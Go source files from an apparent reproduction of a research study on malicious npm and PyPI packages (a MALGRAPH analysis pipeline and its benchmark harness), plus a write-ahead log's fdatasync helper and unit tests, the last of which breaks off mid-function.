func (c Config) withDefaults() Config {
	if c.Seed == 0 {
		c.Seed = 20240404
	}
	if c.Scale <= 0 {
		c.Scale = 0.05
	}
	if c.Detection && c.DetectionIterations <= 0 {
		c.DetectionIterations = 50
	}
	if c.MinBehaviorGroup <= 0 {
		c.MinBehaviorGroup = int(100*c.Scale + 0.5)
		if c.MinBehaviorGroup < 3 {
			c.MinBehaviorGroup = 3
		}
	}
	return c
}

// Pipeline holds every intermediate product of a run, for callers that want
// to go deeper than the Results summary.
type Pipeline struct {
	Config  Config
	World   *world.World
	Dataset *collect.Result
	Reports []*reports.Report
	Graph   *core.MalGraph
	Crawl   crawler.Result
}

// Run executes the complete reproduction pipeline: build the simulated
// world, run the §II-B collection, crawl and parse the report web, build
// MALGRAPH, and compute every table and figure.
func Run(cfg Config) (*Results, error) {
	p, err := BuildPipeline(context.Background(), cfg)
	if err != nil {
		return nil, err
	}
	return p.Analyze()
}

// BuildPipeline runs every stage up to and including MALGRAPH construction.
func BuildPipeline(ctx context.Context, cfg Config) (*Pipeline, error) {
	cfg = cfg.withDefaults()
	w, err := world.Build(world.Config{Seed: cfg.Seed, Scale: cfg.Scale})
	if err != nil {
		return nil, fmt.Errorf("malgraph: build world: %w", err)
	}
	ds, err := collect.Run(w.Sources, w.Fleet, w.Config.CollectAt)
	if err != nil {
		return nil, fmt.Errorf("malgraph: collect: %w", err)
	}
	cr := crawler.New(w.Web, w.Web, crawler.Config{MaxPages: 200000})
	crawlRes := cr.Crawl(ctx, w.SeedURLs)
	reportCorpus := reports.FromPages(crawlRes.Relevant, w.Config.CollectAt)
	mg, err := core.Build(ds, reportCorpus, core.DefaultConfig())
	if err != nil {
		return nil, fmt.Errorf("malgraph: build graph: %w", err)
	}
	return &Pipeline{
		Config:  cfg,
		World:   w,
		Dataset: ds,
		Reports: reportCorpus,
		Graph:   mg,
		Crawl:   crawlRes,
	}, nil
}

// Analyze computes the Results for a built pipeline.
func (p *Pipeline) Analyze() (*Results, error) {
	r := &Results{
		Seed:            p.Config.Seed,
		Scale:           p.Config.Scale,
		TotalPackages:   len(p.Dataset.Entries),
		Available:       len(p.Dataset.Available()),
		Missing:         len(p.Dataset.MissingEntries()),
		TotalMR:         p.Dataset.TotalMR(),
		CrawledPages:    p.Crawl.Fetched,
		CrawledReports:  len(p.Reports),
		GraphNodes:      p.Graph.G.NodeCount(),
		GraphEdges:      p.Graph.G.EdgeCount(),
		DuplicatedEdges: p.Graph.G.EdgeCount(graph.Duplicated),
		SimilarEdges:    p.Graph.G.EdgeCount(graph.Similar),
		DependencyEdges: p.Graph.G.EdgeCount(graph.Dependency),
		CoexistingEdges: p.Graph.G.EdgeCount(graph.Coexisting),
	}

	// The RQ blocks read the pipeline's immutable products (dataset, graph,
	// reports) and write disjoint Results fields, so they run concurrently;
	// every analysis is itself deterministic, making the merged Results
	// identical to a sequential pass.
	rq1 := func() error {
		for _, row := range analysis.SourceSizes(p.Dataset) {
			r.SourceSizes = append(r.SourceSizes, SourceSizeRow{
				Source: row.Source.String(), Unavailable: row.Unavailable, Available: row.Available,
			})
		}
		overlap := analysis.Overlap(p.Dataset)
		for _, id := range overlap.IDs {
			r.OverlapNames = append(r.OverlapNames, id.String())
		}
		r.Overlap = overlap.Matrix
		rows, total := analysis.MissingRates(p.Dataset)
		r.TotalMR = total
		for _, row := range rows {
			r.MissingRates = append(r.MissingRates, MissingRateRow{
				Source: row.Source.String(), Missing: row.Missing, Total: row.Total,
				LocalMR: row.LocalMR, GlobalMR: row.GlobalMR,
			})
		}
		for eco, cdf := range analysis.OccurrenceCDF(p.Dataset) {
			r.OccurrenceCDF = append(r.OccurrenceCDF, OccurrenceRow{
				Ecosystem: eco.String(),
				AtOne:     cdf.At(1), AtTwo: cdf.At(2), AtThree: cdf.At(3), Max: cdf.Quantile(1),
			})
		}
		sortOccurrence(r.OccurrenceCDF)
		for _, b := range analysis.Timeline(p.Dataset) {
			r.Timeline = append(r.Timeline, TimelineRow{Year: b.Year, All: b.All, Missing: b.Missing})
		}
		causes := analysis.ClassifyMissing(p.Dataset, p.World.Fleet)
		r.MissingCauses = MissingCausesRow{
			EarlyRelease: causes.EarlyRelease, ShortPersistence: causes.ShortPersistence, Other: causes.Other,
		}
		return nil
	}

	rq2 := func() error {
		r.SimilarSubgraphs = subgraphRows(analysis.SubgraphStatsFor(p.Graph, graph.Similar))
		r.SimilarOps = opsRow(analysis.Operations(p.Graph, graph.Similar))
		r.SimilarActive = activeRow(analysis.ActivePeriods(p.Graph, graph.Similar))
		div := analysis.Diversity(p.Graph)
		r.Diversity = DiversityRow{
			Packages: div.Packages, Singletons: div.Singletons, Families: div.Families,
			EffectiveFamilies: div.EffectiveFamilies, SimpsonIndex: div.SimpsonIndex,
			Top5Share: div.Top5Share,
		}
		return nil
	}

	rq3 := func() error {
		r.DependencySubgraphs = subgraphRows(analysis.SubgraphStatsFor(p.Graph, graph.Dependency))
		for _, d := range analysis.TopDependencyTargets(p.Graph, 2) {
			r.DependencyTargets = append(r.DependencyTargets, DepTargetRow{
				Ecosystem: d.Eco.String(), Name: d.Name, Count: d.Count,
			})
		}
		cores, fronts := analysis.DependencyReuse(p.Graph, 3)
		r.DepCores, r.DepFronts = cores, fronts
		r.DependencyActive = activeRow(analysis.ActivePeriods(p.Graph, graph.Dependency))
		return nil
	}

	rq4 := func() error {
		r.CoexistSubgraphs = subgraphRows(analysis.SubgraphStatsFor(p.Graph, graph.Coexisting))
		r.CoexistOps = opsRow(analysis.Operations(p.Graph, graph.Coexisting))
		r.CoexistActive = activeRow(analysis.ActivePeriods(p.Graph, graph.Coexisting))
		iocs := analysis.IoCs(p.Reports, 10)
		r.IoCs = IoCRow{
			UniqueURLs: iocs.UniqueURLs, UniqueIPs: iocs.UniqueIPs,
			PowerShell: iocs.PowerShell, MaxSameIPReports: iocs.MaxSameIPReports,
		}
		for _, d := range iocs.TopDomains {
			r.TopDomains = append(r.TopDomains, DomainRow{Domain: d.Domain, Count: d.Count})
		}
		return nil
	}

	// §VI-B — Table XI.
	behaviors := func() error {
		for _, row := range behavior.TableXI(p.Graph, p.Config.MinBehaviorGroup) {
			r.Behaviors = append(r.Behaviors, BehaviorRow{
				Ecosystem: row.Eco.String(), Size: row.Size,
				Behaviors: row.Behaviors, Source: row.Source,
			})
		}
		return nil
	}

	// §IV-A — controlled validation experiment (own derived RNG stream).
	validation := func() error {
		r.Validation = p.runValidation()
		return nil
	}

	if err := parallel.Do(rq1, rq2, rq3, rq4, behaviors, validation); err != nil {
		return nil, err
	}

	// §VI-A — Table X (optional).
	if p.Config.Detection {
		det, err := p.RunDetection(p.Config.DetectionIterations)
		if err != nil {
			return nil, err
		}
		r.Detection = det
	}
	return r, nil
}

// runValidation reproduces §IV-A: five 100-package samples scanned by the
// rule scanner, with scanner misses adjudicated against ground truth (the
// stand-in for the paper's manual reverse-engineering inspection).
func (p *Pipeline) runValidation() ValidationRow {
	available := p.Dataset.Available()
	artifacts := make([]*ecosys.Artifact, 0, len(available))
	for _, e := range available {
		artifacts = append(artifacts, e.Artifact)
	}
	sampleSize := 100
	if sampleSize > len(artifacts) {
		sampleSize = len(artifacts)
	}
	res := detect.ValidateSampling(artifacts, 5, sampleSize, func(a *ecosys.Artifact) bool {
		rec, ok := p.World.Record(a.Coord)
		return ok && rec != nil // every corpus member is ground-truth malware
	}, xrand.New(p.Config.Seed).Derive("validation"))
	return ValidationRow{
		Experiments: res.Experiments, SampleSize: res.SampleSize,
		ScannerRate: res.ScannerRate(), VerifiedRate: res.VerifiedRate(),
	}
}

// RunDetection executes the Table X experiment on the NPM similar clusters.
func (p *Pipeline) RunDetection(iterations int) ([]DetectionRow, error) {
	clusters := p.NPMClusters()
	if len(clusters) < 4 {
		return nil, fmt.Errorf("malgraph: only %d NPM clusters; need ≥4 for Table X", len(clusters))
	}
	benignCount := int(3500 * p.Config.Scale)
	if benignCount < 60 {
		benignCount = 60
	}
	benign := codegen.GenerateBenignPool(ecosys.NPM, benignCount, xrand.New(p.Config.Seed).Derive("benign"))
	cfg := detect.DefaultTableXConfig()
	cfg.Iterations = iterations
	cfg.Seed = p.Config.Seed
	cfg.ClustersPerIter = len(clusters) / 4
	if cfg.ClustersPerIter < 2 {
		cfg.ClustersPerIter = 2
	}
	rows, err := detect.RunTableX(clusters, benign, cfg)
	if err != nil {
		return nil, fmt.Errorf("malgraph: table X: %w", err)
	}
	out := make([]DetectionRow, 0, len(rows))
	for _, row := range rows {
		out = append(out, DetectionRow{
			Algorithm:  row.Algorithm,
			AccWithout: row.AccWithout, AccWith: row.AccWith,
			RecallWithout: row.RecallWithout, RecallWith: row.RecallWith,
		})
	}
	return out, nil
}

// NPMClusters returns the NPM similar clusters as artifact groups — the
// "tracked malware packages" §VI-A trains on.
func (p *Pipeline) NPMClusters() [][]*ecosys.Artifact {
	var clusters [][]*ecosys.Artifact
	for _, cl := range p.Graph.SimilarClusters[ecosys.NPM] {
		var arts []*ecosys.Artifact
		for _, id := range cl.Members {
			if e, ok := p.Graph.EntryByNodeID(id); ok && e.Artifact != nil {
				arts = append(arts, e.Artifact)
			}
		}
		if len(arts) >= 2 {
			clusters = append(clusters, arts)
		}
	}
	return clusters
}

// GroundTruth exposes the simulated world's campaign ledger (for calibration
// and example programs).
func (p *Pipeline) GroundTruth() []*attacker.Campaign { return p.World.Campaigns }

func subgraphRows(in []analysis.SubgraphStats) []SubgraphRow {
	out := make([]SubgraphRow, 0, len(in))
	for _, s := range in {
		out = append(out, SubgraphRow{
			Ecosystem: s.Eco.String(), PkgNum: s.PkgNum, SubgraphNum: s.SubgraphNum,
			AvgSize: s.AvgSize, LargestSize: s.LargestSize,
		})
	}
	return out
}

func opsRow(d analysis.OpsDist) OpsRow {
	return OpsRow{
		CN: d.CN, CV: d.CV, CD: d.CD, CDep: d.CDep, CC: d.CC,
		Transitions: d.Transitions, AvgChangedLines: d.AvgChangedLines,
	}
}

func activeRow(a analysis.ActiveStats) ActiveRow {
	row := ActiveRow{
		Groups: a.CDF.Len(), MeanDays: a.Summary.Mean, MedianDays: a.Summary.Median,
		Over60Days: a.Over60d,
	}
	if a.CDF.Len() > 0 {
		row.P80Days = a.CDF.Quantile(0.8)
		row.Under15DaysFrac = a.CDF.At(15)
		row.Under10DaysFrac = a.CDF.At(10)
	}
	return row
}
