package malgraph

// The benchmark harness regenerates every table and figure of the paper's
// evaluation (DESIGN.md §4 maps IDs to benches). Each benchmark times the
// analysis stage that produces its artifact and reports shape metrics via
// b.ReportMetric so `go test -bench` output doubles as a reproduction
// scorecard.
//
// The shared pipeline is built once per scale. Default scale is 0.05
// (≈1.2k packages, seconds); set MALGRAPH_BENCH_SCALE=1.0 to regenerate at
// paper scale.

import (
	"context"
	"os"
	"strconv"
	"sync"
	"testing"

	"malgraph/internal/analysis"
	"malgraph/internal/behavior"
	"malgraph/internal/collect"
	"malgraph/internal/core"
	"malgraph/internal/crawler"
	"malgraph/internal/detect"
	"malgraph/internal/ecosys"
	"malgraph/internal/graph"
	"malgraph/internal/reports"
	"malgraph/internal/sources"
	"malgraph/internal/xrand"
)

var (
	benchOnce sync.Once
	benchPipe *Pipeline
	benchErr  error
)

func benchScale() float64 {
	if raw := os.Getenv("MALGRAPH_BENCH_SCALE"); raw != "" {
		if v, err := strconv.ParseFloat(raw, 64); err == nil && v > 0 {
			return v
		}
	}
	return 0.05
}

func pipelineForBench(b *testing.B) *Pipeline {
	b.Helper()
	benchOnce.Do(func() {
		benchPipe, benchErr = BuildPipeline(context.Background(), Config{Scale: benchScale()})
	})
	if benchErr != nil {
		b.Fatalf("build pipeline: %v", benchErr)
	}
	return benchPipe
}

// BenchmarkPipeline_EndToEnd regenerates the whole corpus + graph, the cost
// envelope for everything below.
func BenchmarkPipeline_EndToEnd(b *testing.B) {
	for i := 0; i < b.N; i++ {
		p, err := BuildPipeline(context.Background(), Config{Scale: benchScale()})
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(float64(len(p.Dataset.Entries)), "packages")
		b.ReportMetric(float64(p.Graph.G.EdgeCount()), "edges")
	}
}

// --- T1: Table I — source and size of initial malicious packages. ---
func BenchmarkTable1_SourceSizes(b *testing.B) {
	p := pipelineForBench(b)
	var rows []analysis.SourceSizeRow
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rows = analysis.SourceSizes(p.Dataset)
	}
	b.ReportMetric(float64(len(rows)), "sources")
	avail := 0
	for _, r := range rows {
		avail += r.Available
	}
	b.ReportMetric(float64(avail), "available")
}

// --- T4: Table IV — overlap matrix. ---
func BenchmarkTable4_OverlapMatrix(b *testing.B) {
	p := pipelineForBench(b)
	var m analysis.OverlapMatrix
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		m = analysis.Overlap(p.Dataset)
	}
	b.ReportMetric(float64(m.At(sources.Backstabber, sources.MalPyPI)), "bk_mdp_overlap")
}

// --- T5: Table V — missing rates. ---
func BenchmarkTable5_MissingRates(b *testing.B) {
	p := pipelineForBench(b)
	var total float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_, total = analysis.MissingRates(p.Dataset)
	}
	b.ReportMetric(total*100, "total_mr_pct")
}

// --- F6: Fig. 6 — occurrence CDF. ---
func BenchmarkFigure6_OccurrenceCDF(b *testing.B) {
	p := pipelineForBench(b)
	var frac float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		cdfs := analysis.OccurrenceCDF(p.Dataset)
		frac = cdfs[ecosys.NPM].At(1)
	}
	b.ReportMetric(frac*100, "npm_single_occ_pct")
}

// --- F7: Fig. 7 — release timeline. ---
func BenchmarkFigure7_Timeline(b *testing.B) {
	p := pipelineForBench(b)
	var buckets []analysis.TimelineBucket
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		buckets = analysis.Timeline(p.Dataset)
	}
	peak := 0
	for _, bk := range buckets {
		if bk.Missing > peak {
			peak = bk.Missing
		}
	}
	b.ReportMetric(float64(len(buckets)), "years")
	b.ReportMetric(float64(peak), "peak_missing")
}

// --- F8: Fig. 8 — causes of unavailability. ---
func BenchmarkFigure8_MissingCauses(b *testing.B) {
	p := pipelineForBench(b)
	var causes analysis.MissingCauses
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		causes = analysis.ClassifyMissing(p.Dataset, p.World.Fleet)
	}
	b.ReportMetric(float64(causes.EarlyRelease), "early_release")
	b.ReportMetric(float64(causes.ShortPersistence), "short_persistence")
}

// --- T6: Table VI — similar subgraphs (includes the clustering cost). ---
func BenchmarkTable6_SimilarSubgraphs(b *testing.B) {
	p := pipelineForBench(b)
	var rows []analysis.SubgraphStats
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rows = analysis.SubgraphStatsFor(p.Graph, graph.Similar)
	}
	for _, r := range rows {
		switch r.Eco {
		case ecosys.NPM:
			b.ReportMetric(float64(r.LargestSize), "npm_largest")
		case ecosys.PyPI:
			b.ReportMetric(float64(r.LargestSize), "pypi_largest")
		}
	}
}

// BenchmarkTable6_ClusteringStage isolates the §III-B embedding + K-Means
// stage — the pipeline's dominant compute.
func BenchmarkTable6_ClusteringStage(b *testing.B) {
	p := pipelineForBench(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		mg, err := core.Build(p.Dataset, p.Reports, core.DefaultConfig())
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(float64(mg.G.EdgeCount(graph.Similar)), "similar_edges")
	}
}

// --- F9: Fig. 9 — operation distribution in similar subgraphs. ---
func BenchmarkFigure9_SimilarOps(b *testing.B) {
	p := pipelineForBench(b)
	var dist analysis.OpsDist
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		dist = analysis.Operations(p.Graph, graph.Similar)
	}
	b.ReportMetric(dist.CN*100, "cn_pct")
	b.ReportMetric(dist.CC*100, "cc_pct")
	b.ReportMetric(dist.AvgChangedLines, "avg_changed_lines")
}

// --- F10: Fig. 10 — active periods of similar subgraphs. ---
func BenchmarkFigure10_SimilarActive(b *testing.B) {
	p := pipelineForBench(b)
	var st analysis.ActiveStats
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		st = analysis.ActivePeriods(p.Graph, graph.Similar)
	}
	b.ReportMetric(st.Summary.Mean, "mean_days")
	b.ReportMetric(st.CDF.At(15)*100, "under15d_pct")
}

// --- T7: Table VII — dependency subgraphs. ---
func BenchmarkTable7_DependencySubgraphs(b *testing.B) {
	p := pipelineForBench(b)
	var rows []analysis.SubgraphStats
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rows = analysis.SubgraphStatsFor(p.Graph, graph.Dependency)
	}
	for _, r := range rows {
		if r.Eco == ecosys.PyPI {
			b.ReportMetric(float64(r.LargestSize), "pypi_largest")
		}
	}
}

// --- T8: Table VIII — most-reused dependency targets. ---
func BenchmarkTable8_DependencyTargets(b *testing.B) {
	p := pipelineForBench(b)
	var targets []analysis.DepTarget
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		targets = analysis.TopDependencyTargets(p.Graph, 2)
	}
	for _, t := range targets {
		if t.Eco == ecosys.PyPI && t.Name == "urllib" {
			b.ReportMetric(float64(t.Count), "urllib_reuse")
		}
	}
	cores, fronts := analysis.DependencyReuse(p.Graph, 3)
	b.ReportMetric(float64(cores), "cores")
	b.ReportMetric(float64(fronts), "fronts")
}

// --- F11: Fig. 11 — active periods of dependency subgraphs. ---
func BenchmarkFigure11_DepActive(b *testing.B) {
	p := pipelineForBench(b)
	var st analysis.ActiveStats
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		st = analysis.ActivePeriods(p.Graph, graph.Dependency)
	}
	b.ReportMetric(st.Summary.Mean, "mean_days")
	b.ReportMetric(st.CDF.At(10)*100, "under10d_pct")
}

// --- T9: Table IX — co-existing subgraphs. ---
func BenchmarkTable9_CoexistSubgraphs(b *testing.B) {
	p := pipelineForBench(b)
	var rows []analysis.SubgraphStats
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rows = analysis.SubgraphStatsFor(p.Graph, graph.Coexisting)
	}
	for _, r := range rows {
		if r.Eco == ecosys.PyPI {
			b.ReportMetric(r.AvgSize, "pypi_avg_size")
		}
	}
}

// --- F12: Fig. 12 — operation distribution in co-existing subgraphs. ---
func BenchmarkFigure12_CoexistOps(b *testing.B) {
	p := pipelineForBench(b)
	var dist analysis.OpsDist
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		dist = analysis.Operations(p.Graph, graph.Coexisting)
	}
	b.ReportMetric(dist.CN*100, "cn_pct")
}

// --- F13: Fig. 13 — active periods of co-existing subgraphs. ---
func BenchmarkFigure13_CoexistActive(b *testing.B) {
	p := pipelineForBench(b)
	var st analysis.ActiveStats
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		st = analysis.ActivePeriods(p.Graph, graph.Coexisting)
	}
	b.ReportMetric(st.Summary.Mean, "mean_days")
}

// --- F14: Fig. 14 — IoC statistics and top domains. ---
func BenchmarkFigure14_TopDomains(b *testing.B) {
	p := pipelineForBench(b)
	var summary analysis.IoCSummary
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		summary = analysis.IoCs(p.Reports, 10)
	}
	b.ReportMetric(float64(summary.UniqueURLs), "urls")
	b.ReportMetric(float64(summary.UniqueIPs), "ips")
	if len(summary.TopDomains) > 0 {
		b.ReportMetric(float64(summary.TopDomains[0].Count), "top_domain_urls")
	}
}

// --- T10: Table X — detection with and without MALGRAPH. ---
func BenchmarkTable10_Detection(b *testing.B) {
	p := pipelineForBench(b)
	iters := 5
	var rows []DetectionRow
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		var err error
		rows, err = p.RunDetection(iters)
		if err != nil {
			b.Fatal(err)
		}
	}
	var withSum, withoutSum float64
	for _, r := range rows {
		withSum += r.RecallWith
		withoutSum += r.RecallWithout
	}
	b.ReportMetric(withoutSum/4*100, "recall_without_pct")
	b.ReportMetric(withSum/4*100, "recall_with_pct")
}

// --- T11: Table XI — behaviours of the largest similar groups. ---
func BenchmarkTable11_Behaviors(b *testing.B) {
	p := pipelineForBench(b)
	minSize := p.Config.withDefaults().MinBehaviorGroup
	var rows []behavior.GroupRow
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rows = behavior.TableXI(p.Graph, minSize)
	}
	b.ReportMetric(float64(len(rows)), "groups")
}

// --- V1: §IV-A — controlled validation sampling. ---
func BenchmarkValidation_Sampling(b *testing.B) {
	p := pipelineForBench(b)
	available := p.Dataset.Available()
	artifacts := make([]*ecosys.Artifact, 0, len(available))
	for _, e := range available {
		artifacts = append(artifacts, e.Artifact)
	}
	n := 100
	if n > len(artifacts) {
		n = len(artifacts)
	}
	var rate float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res := detect.ValidateSampling(artifacts, 5, n,
			func(*ecosys.Artifact) bool { return true }, benchRNG(i))
		rate = res.VerifiedRate()
	}
	b.ReportMetric(rate*100, "verified_pct")
}

// --- Substrate micro-benchmarks. ---

// BenchmarkSubstrate_Collection measures the §II-B pipeline alone.
func BenchmarkSubstrate_Collection(b *testing.B) {
	p := pipelineForBench(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		ds, err := collect.Run(p.World.Sources, p.World.Fleet, p.World.Config.CollectAt)
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(ds.TotalMR()*100, "mr_pct")
	}
}

// BenchmarkSubstrate_Crawl measures the §III-D crawler alone.
func BenchmarkSubstrate_Crawl(b *testing.B) {
	p := pipelineForBench(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		c := crawler.New(p.World.Web, p.World.Web, crawler.Config{MaxPages: 200000})
		res := c.Crawl(context.Background(), p.World.SeedURLs)
		b.ReportMetric(float64(len(res.Relevant)), "relevant_pages")
	}
}

// BenchmarkSubstrate_ReportParse measures report-body parsing throughput.
func BenchmarkSubstrate_ReportParse(b *testing.B) {
	p := pipelineForBench(b)
	bodies := make([]string, 0, len(p.Reports))
	for _, r := range p.Reports {
		bodies = append(bodies, r.Body)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		total := 0
		for _, body := range bodies {
			total += len(reports.ExtractPackages(body))
			set := reports.ExtractIoCs(body)
			total += len(set.URLs)
		}
		if total == 0 {
			b.Fatal("no parses")
		}
	}
}

func benchRNG(i int) *xrand.RNG { return xrand.New(uint64(i + 1)) }
