//go:build linux

package wal

import (
	"os"
	"syscall"
)

// datasync flushes the file's data and the metadata needed to read it back
// (the size) without forcing the full inode flush fsync implies — exactly
// the durability a length-prefixed, checksummed journal record needs.
func datasync(f *os.File) error {
	for {
		err := syscall.Fdatasync(int(f.Fd()))
		if err != syscall.EINTR {
			return err
		}
	}
}
