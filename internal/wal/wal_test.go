package wal

import (
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"testing"
)

func journalPath(dir string) string { return filepath.Join(dir, journalName) }

func mustAppend(t *testing.T, l *Log, kind string, payload []byte) uint64 {
	t.Helper()
	seq, err := l.Append(kind, payload)
	if err != nil {
		t.Fatalf("append %q: %v", kind, err)
	}
	return seq
}

func replayAll(t *testing.T, l *Log, after uint64) []Record {
	t.Helper()
	var recs []Record
	if err := l.Replay(after, func(r Record) error {
		recs = append(recs, r)
		return nil
	}); err != nil {
		t.Fatalf("replay: %v", err)
	}
	return recs
}

func TestAppendReplayRoundTrip(t *testing.T) {
	dir := t.TempDir()
	l, err := Open(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	want := []Record{
		{Seq: 1, Kind: "external", Payload: []byte(`{"observations":[1,2,3]}`)},
		{Seq: 2, Kind: "feed", Payload: []byte(`{"batches":1}`)},
		{Seq: 3, Kind: "external", Payload: nil},
	}
	for _, r := range want {
		if got := mustAppend(t, l, r.Kind, r.Payload); got != r.Seq {
			t.Fatalf("seq = %d, want %d", got, r.Seq)
		}
	}
	check := func(l *Log) {
		t.Helper()
		got := replayAll(t, l, 0)
		if len(got) != len(want) {
			t.Fatalf("replayed %d records, want %d", len(got), len(want))
		}
		for i := range want {
			if got[i].Seq != want[i].Seq || got[i].Kind != want[i].Kind ||
				string(got[i].Payload) != string(want[i].Payload) {
				t.Fatalf("record %d = %+v, want %+v", i, got[i], want[i])
			}
		}
		after := replayAll(t, l, 2)
		if len(after) != len(want)-2 || after[0].Seq != 3 {
			t.Fatalf("replay after 2 = %+v, want records 3..%d", after, len(want))
		}
	}
	check(l)
	// Replay must leave the write position at the tail.
	if seq := mustAppend(t, l, "feed", []byte("x")); seq != 4 {
		t.Fatalf("append after replay: seq %d, want 4", seq)
	}
	want = append(want, Record{Seq: 4, Kind: "feed", Payload: []byte("x")})
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}

	// Reopen: same contents, counter resumes.
	l2, err := Open(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer l2.Close()
	check(l2)
	if l2.LastSeq() != 4 {
		t.Fatalf("LastSeq after reopen = %d, want 4", l2.LastSeq())
	}
	if seq := mustAppend(t, l2, "feed", nil); seq != 5 {
		t.Fatalf("seq after reopen = %d, want 5", seq)
	}
}

// TestTornTailEveryByteBoundary cuts the journal after every byte of the
// final record and verifies Open truncates back to the last intact record
// instead of failing — the crash-mid-append recovery path.
func TestTornTailEveryByteBoundary(t *testing.T) {
	dir := t.TempDir()
	l, err := Open(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	mustAppend(t, l, "external", []byte("first payload"))
	mustAppend(t, l, "feed", []byte("second"))
	intact := l.Size()
	mustAppend(t, l, "external", []byte("the final record, torn mid-write"))
	full := l.Size()
	l.Close()
	raw, err := os.ReadFile(journalPath(dir))
	if err != nil {
		t.Fatal(err)
	}

	for cut := intact; cut < full; cut++ {
		t.Run(fmt.Sprintf("cut=%d", cut), func(t *testing.T) {
			d2 := t.TempDir()
			if err := os.WriteFile(journalPath(d2), raw[:cut], 0o644); err != nil {
				t.Fatal(err)
			}
			lt, err := Open(d2, nil)
			if err != nil {
				t.Fatalf("torn tail must recover, not error: %v", err)
			}
			defer lt.Close()
			if lt.Size() != intact || lt.LastSeq() != 2 {
				t.Fatalf("recovered size=%d lastSeq=%d, want size=%d lastSeq=2",
					lt.Size(), lt.LastSeq(), intact)
			}
			if st, err := os.Stat(journalPath(d2)); err != nil || st.Size() != intact {
				t.Fatalf("file not truncated: size=%d err=%v", st.Size(), err)
			}
			// The recovered log must accept new appends with a fresh sequence.
			if seq := mustAppend(t, lt, "feed", nil); seq != 3 {
				t.Fatalf("post-recovery seq = %d, want 3", seq)
			}
			recs := replayAll(t, lt, 0)
			if len(recs) != 3 || recs[2].Seq != 3 {
				t.Fatalf("post-recovery replay = %+v", recs)
			}
		})
	}
}

func TestCorruptedMiddleRecordDropsSuffix(t *testing.T) {
	dir := t.TempDir()
	l, err := Open(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	mustAppend(t, l, "a", []byte("one"))
	firstEnd := l.Size()
	mustAppend(t, l, "b", []byte("two"))
	mustAppend(t, l, "c", []byte("three"))
	l.Close()

	raw, err := os.ReadFile(journalPath(dir))
	if err != nil {
		t.Fatal(err)
	}
	raw[firstEnd+headerSize+3] ^= 0xFF // flip a byte inside record 2's body
	if err := os.WriteFile(journalPath(dir), raw, 0o644); err != nil {
		t.Fatal(err)
	}
	l2, err := Open(dir, nil)
	if err != nil {
		t.Fatalf("corruption must truncate, not error: %v", err)
	}
	defer l2.Close()
	// Everything from the corrupt record on is gone; record 1 survives.
	if l2.LastSeq() != 1 || l2.Size() != firstEnd {
		t.Fatalf("lastSeq=%d size=%d, want 1/%d", l2.LastSeq(), l2.Size(), firstEnd)
	}
}

func TestResetKeepsSequenceCounter(t *testing.T) {
	dir := t.TempDir()
	l, err := Open(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	mustAppend(t, l, "a", []byte("x"))
	mustAppend(t, l, "a", []byte("y"))
	if err := l.Reset(); err != nil {
		t.Fatal(err)
	}
	if l.Size() != 0 || l.AppendedBytes() != 0 {
		t.Fatalf("reset left size=%d appended=%d", l.Size(), l.AppendedBytes())
	}
	if seq := mustAppend(t, l, "a", []byte("z")); seq != 3 {
		t.Fatalf("post-reset seq = %d, want 3 (counter must survive truncation)", seq)
	}
	recs := replayAll(t, l, 0)
	if len(recs) != 1 || recs[0].Seq != 3 {
		t.Fatalf("post-reset replay = %+v, want just seq 3", recs)
	}
}

func TestEnsureSeqSkipsSnapshotCoveredRange(t *testing.T) {
	dir := t.TempDir()
	l, err := Open(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	// A restored snapshot carries appliedSeq=7; the journal is empty.
	l.EnsureSeq(7)
	if seq := mustAppend(t, l, "a", nil); seq != 8 {
		t.Fatalf("seq = %d, want 8", seq)
	}
	l.EnsureSeq(3) // must never lower the counter
	if seq := mustAppend(t, l, "a", nil); seq != 9 {
		t.Fatalf("seq = %d, want 9", seq)
	}
}

func TestEmptyAndMissingJournal(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "nested", "wal")
	l, err := Open(dir, nil)
	if err != nil {
		t.Fatalf("open must create nested dirs: %v", err)
	}
	defer l.Close()
	if l.LastSeq() != 0 || l.Size() != 0 {
		t.Fatalf("fresh journal lastSeq=%d size=%d", l.LastSeq(), l.Size())
	}
	if recs := replayAll(t, l, 0); len(recs) != 0 {
		t.Fatalf("fresh journal replayed %d records", len(recs))
	}
}

func TestReplayCallbackErrorAborts(t *testing.T) {
	dir := t.TempDir()
	l, err := Open(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	mustAppend(t, l, "a", nil)
	mustAppend(t, l, "a", nil)
	boom := fmt.Errorf("boom")
	var seen []uint64
	err = l.Replay(0, func(r Record) error {
		seen = append(seen, r.Seq)
		return boom
	})
